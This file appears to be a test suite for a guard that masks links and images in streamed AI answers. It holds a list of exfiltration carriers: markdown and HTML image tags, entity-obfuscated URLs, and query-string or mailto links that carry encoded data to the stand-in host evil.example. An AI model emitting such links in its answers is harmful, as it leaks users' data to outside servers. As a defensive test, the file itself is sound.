import { expect } from "chai";
import fc from "fast-check";
import { segmentGuard } from "../server/guards/detector.ts";
import { carryingLinks, waitForLink } from "../server/guards/links.ts";
import { cut, throughGate } from "./support/gate.ts";

const guard = segmentGuard("links", "links", carryingLinks({ action: "mask", hosts: ["wiki.example", "*.bank.example"] }), waitForLink);
const host = "evil.example";
const data = "c2VjcmV0".repeat(10);

/** What a viewer loads or a reader may follow, and would carry something outwards. */
const carriers = [
  `![x](https://${host}/a.png)`,
  `![x](<https://${host}/a b.png> "t")`,
  `![x](//${host}/a.png)`,
  `![x](\\\\${host}\\a.png)`,
  `![x](https&colon;//${host}/a.png)`,
  `![x](https\\://${host}/a.png)`,
  `![x](&#104;ttps:&#x2f;/${host}/a.png)`,
  `![[a]](https://${host}/a.png)`,
  `![[[a] b] c](https://${host}/a.png)`,
  `![a\nb](https://${host}/a.png)`,
  `![a\\]](https://${host}/a.png)`,
  `![x](\n\n\nhttps://${host}/a.png\n"title")`,
  `![x][1]`,
  `![x][]`,
  `![1]`,
  `<img src="https://${host}/a.png">`,
  `<img src=//${host}/a.png>`,
  `<img srcset="/a.png 1x, //${host}/b.png 2x">`,
  `<img xsrc="/a.png" src="https://${host}/a.png">`,
  `<img alt=">" src="https://${host}/a.png">`,
  `<IMG SRC='https&#58;//${host}/a.png'>`,
  `<video poster="//${host}/a.png">`,
  `<body background="https://${host}/a.png">`,
  `<source src="https://${host}/a.mp4">`,
  `https://${host}/?q=${data}`,
  `[x](//${host}/?q=${data})`,
  `[x](https&colon;//${host}/?q=${data})`,
  `[x](mailto:a@${host}?body=${data})`,
  `https://${host}${"/secretsecret".repeat(20)}`,
  `https://user:pass@${host}/`,
];

const harmless = [
  "![a heron](heron.png) and ![b](/b.png)",
  "![logo](https://wiki.example/logo.png) and <img src='https://www.bank.example/a.png'>",
  "See https://en.wikipedia.example/wiki/Heron#Diet or [this](https://a.example/b/c?page=2).",
  "wow! [x](y) and a[0] ![",
  "<table><td>1</td></table> 1 < 2 <b>bold</b>",
  "if (!a[0]) return; b = !c[d];",
];

describe("links and pictures in an answer", () => {
  for (const carrier of carriers)
    it(`lets no ${JSON.stringify(carrier).slice(0, 60)} out`, async () => {
      for (const text of [carrier, `so ${carrier} it is`, `so ${carrier}\n\n[1]: https://${host}/a.png\n`]) {
        for (const lengths of [[1], [3], [7, 2], [400]]) {
          const out = (await throughGate(cut(text, lengths), [guard])).left.join("");
          expect(out, out).to.match(/\[(?:picture|link) withheld\]/u);
          expect(out.replace(`[1]: https://${host}/a.png`, ""), out).to.not.include(host);
        }
      }
    });

  it("leaves alone what carries nothing, however it is cut", async () => {
    for (const text of harmless)
      for (const lengths of [[1], [2, 5], [9], [400]])
        expect((await throughGate(cut(text, lengths), [guard])).left.join("")).to.equal(text);
  });

  it("takes no longer for text that is made to be slow", () => {
    const detect = carryingLinks({ action: "mask", hosts: [] });
    for (const piece of ["![", "![[", "<img ", '<img "', "](", "&#x", "![x](", "http://a", "!["].map((one) =>
      one.repeat(16_000 / one.length),
    )) {
      const begunMs = performance.now();
      detect(piece);
      waitForLink(piece);
      expect(performance.now() - begunMs, piece.slice(0, 8)).to.be.below(500);
    }
  });

  it("finds the same in whatever pieces an answer comes", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...carriers, ...harmless, " ", "\n", "[", "]", "(", ")", "!", "<", ">"), { minLength: 1, maxLength: 4 }),
        fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 4 }),
        async (pieces, lengths) => {
          const text = pieces.join("");
          const whole = (await throughGate([text], [guard])).left.join("");
          const out = (await throughGate(cut(text, lengths), [guard])).left.join("");
          expect(out.includes(host), `${text}\n${out}`).to.equal(whole.includes(host));
        },
      ),
      { numRuns: 300 },
    );
  }).timeout(60_000);
});
